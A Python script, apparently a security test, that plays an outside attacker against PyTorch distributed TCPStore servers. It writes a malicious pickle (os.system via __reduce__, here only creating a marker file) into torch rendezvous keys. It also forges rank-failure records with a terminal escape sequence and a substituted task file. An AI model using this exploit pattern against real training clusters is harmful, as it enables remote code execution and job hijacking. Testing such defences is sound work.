"""Somebody who is no part of a run, on another host or as another user of this machine: writes into what stores answer.

stranger.py ADDRESS PORT,PORT,... KIND FOLDER USER

KIND  pickle: into torch's own rendezvous, which its agent unpickles. again: the failure of a rank, after which all
      start again, with a task of the stranger's. code: a failure with the exit code of a success
USER  the number of the user that this becomes. The run must never make the file FOLDER/ran
"""

import base64
import datetime
import json
import os
import pickle
import sys
import threading
from contextlib import suppress

import torch.distributed as dist

address, ports, kind, folder, user = sys.argv[1:]


class Program:
    def __reduce__(self):
        return os.system, (f"touch {folder}/ran",)


FAILURE = {"rank": 1, "text": "\x1b]0;owned\x07x", "exit_code": 0, "details": "", "again": {}}
TASK = {"task": f"{folder}/theirs.py"}

os.setgid(int(user)), os.setuid(int(user))
found = []


def visit(port):
    with suppress(RuntimeError, ValueError):  # nobody listens there, or no store does
        patience = datetime.timedelta(seconds=3)
        store = dist.TCPStore(address, port, is_master=False, timeout=patience, wait_for_workers=False)
        keys, written = store.list_keys(), 0
        for key in keys:
            if "pickle" in kind and "torch.rendezvous." in key and "/" not in key:
                store.set(key, base64.b64encode(pickle.dumps(Program())).decode())
                written += 1
            if kind != "pickle" and key.endswith("lockstep/beat0"):
                note = [1, FAILURE | ({"again": TASK} if "again" in kind else {})]
                store.set(key.replace("beat0", "failure"), json.dumps(note))
                written += 1
        found.append(written)


threads = [threading.Thread(target=visit, args=[int(port)], daemon=True) for port in ports.split(",")]
for each in threads:
    each.start()
for each in threads:
    each.join(5)  # a port of gloo takes the connection and says nothing
print(f"stores {len(found)} written {sum(found)}", flush=True)
os._exit(0)
